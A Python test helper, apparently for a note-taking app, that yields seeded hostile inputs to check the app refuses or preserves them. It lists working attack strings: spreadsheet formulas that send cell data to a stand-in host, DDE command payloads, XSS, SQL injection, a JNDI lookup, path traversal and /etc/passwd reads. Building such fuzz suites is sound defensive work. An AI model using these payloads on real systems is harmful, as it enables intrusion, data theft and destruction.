"""Texts that nobody types in earnest: each may be refused with a sentence, or is kept and comes back as it was."""

import random
import string
from collections.abc import Callable

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
)
TYPST = (
    '#read("/etc/passwd")',
    '#import "/etc/passwd": *',
    '#include "../../secret.typ"',
    '#eval("1 + 1")',
    '#image("/etc/passwd")',
    "#panic()",
    "$ sum_(i=0)^n i $",
    "#let x = 1; #x",
    "]#text(red)[x",
    "<label> @label",
    "\\ \\u{202e} ~ -- ---",
    "#while true {}",
    '"#sys.inputs"',
    "/* open",
    "```typ #panic() ```",
)
HTML = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=file:///etc/passwd></iframe>",
    "<!-- ",
    "]]>",
    "&#0;&#x202e;&lt;&nbsp",
    "<b>bold</b><br><img src='http://evil.example/a.png'>",
    "<table><tr><td>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<body onload=x><base href=//evil.example>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](file:///etc/passwd)",
    "![x](http://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "- [ ] @Lin do it by Friday",
    "- [x] done\n- [ ] @nobody by 2026-02-30",
    "! @Lin act by yesterday\n? carry\n* goal\n% private\n\\! not",
    "```\nnever closed",
    "| a | b |\n|---|\n| `|` |",
    "***" * 60,
    "[" * 300 + "]" * 300,
    "> " * 150 + "deep",
    "- " * 120 + "deep",
    "&amp;&lt;&#106;avascript:",
    "1. a\n   1. b\n      1. c\n         # d",
    "_" * 200 + "a" + "*" * 200,
    "\\" * 99,
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "NUL.txt",
    "/dev/null",
    "C:\\autoexec.bat",
    "\\\\host\\share",
    "file:///etc/passwd",
    "a/b\\c:d*e?f\"g<h>i|j",
    "%00%2e%2e%2f",
    ".",
    "..",
    "~root",
    "-rf",
    "a" * 300 + ".mentordesk",
)  # fmt: skip
SQL = (
    "'; DROP TABLE person; --",
    "' OR 1=1 --",
    '"NEAR(a b, 1)" OR *',
    "col:value AND NOT",
    "\u0000'); ATTACH 'x' AS y; --",
    "%_[]^",
    "{{7*7}} ${7*7} %s %n %(x)s {0} {x!r}",
    "${jndi:ldap://evil.example/a}",
    '{"a": [1, "\\u0000"]}',
    "null",
    "None",
    "NaN",
    "-0",
    "1e999",
    "0x1p-2",
    "9" * 400,
)
UNICODE = (
    "\u202eright to left override\u202c",
    "\u2066\u2067\u2068 isolates never closed",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\ufeff" + "mark first",
    "\ud800 lone",
    "lone \udfff\udfff",
    "\udcff\udc80",
    "a" + "\u0301" * 90,
    "\u1112\u1161\u11ab",
    "\ufdfa" * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\ue000\U000f0000\U0010ffff\ufffe\uffff",
    "\u2028line\u2029paragraph\x85next",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m\x07",
    "".join(map(chr, range(32))),
    "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "İıſßẞŉǰﬃ",
    "שלום עולם مرحبا بالعالم",
    "ᚠᛇᚻ 漢字 かな 한글 ไทย हिन्दी",
    "Z̸̡̛̭a̷̢̤l̵̨̛g̶̢̛o̷̧̡" * 12,
    " \t\u00a0\u2003\u3000 ",
    "",
    "\r\n\r\r\n\n",
    "\u00ad\u034f\u061c\u115f\u17b4\u180e",
)
KNOWN = (*FORMULAS, *TYPST, *HTML, *MARKDOWN, *PATHS, *SQL, *UNICODE)


class HostileTexts:
    """An endless, seeded supply. ``largest`` is about how many characters a huge text has."""

    def __init__(self, seed: object, *, largest: int = 200_000) -> None:
        self._random = random.Random(f"texts {seed}")
        self._largest = largest
        self._made = 0

    def next(self) -> str:
        """Return the next one: every known text first, then mixtures, noise and now and then something huge."""
        self._made += 1
        if self._made <= len(KNOWN):
            return KNOWN[self._made - 1]
        make: Callable[[], str] = self._random.choices(
            (self._known, self._mixture, self._any_letters, self._bytes, self._lines, self._huge),
            (20, 30, 20, 15, 12, 1),
        )[0]
        return make()

    def _known(self) -> str:
        return self._random.choice(KNOWN)

    def _mixture(self) -> str:
        some = [self._random.choice(KNOWN) for _ in range(self._random.randint(2, 4))]
        return self._random.choice(("", " ", "\n", ",", ";", "\t", "|", "\0")).join(some)

    def _any_letters(self) -> str:
        ceilings = (0x80, 0x250, 0x3000, 0x10000, 0x110000)
        return "".join(
            chr(self._random.randrange(self._random.choice(ceilings))) for _ in range(self._random.randint(1, 60))
        )

    def _bytes(self) -> str:
        data = self._random.randbytes(self._random.randint(1, 120))
        return self._random.choice(
            (
                lambda: data.decode("utf-8", "surrogateescape"),
                lambda: data.decode("latin-1"),
                lambda: data.decode("utf-16-le", "surrogatepass") if len(data) % 2 == 0 else data.decode("cp437"),
            )
        )()

    def _lines(self) -> str:
        signs = ("- [ ] ", "- [x] @Lin ", "# ", "> ", "! ", "? ", "* ", "% ", "    ", "\t", "|", "```", "1. ", "")
        return "\n".join(
            self._random.choice(signs) + self._random.choice(KNOWN)[:60] for _ in range(self._random.randint(2, 12))
        )

    def _huge(self) -> str:
        size = self._random.randint(self._largest // 10, self._largest)
        return self._random.choice(
            (
                lambda: "a" * size,
                lambda: "word " * (size // 5),
                lambda: "\n" * (size // 20),
                lambda: "- [ ] do it\n" * (size // 400),
                lambda: "\u202e\u0301" * (size // 10),
                lambda: "\U0001f469" * (size // 10),
                lambda: "".join(self._random.choices(string.printable, k=size // 4)),
            )
        )()
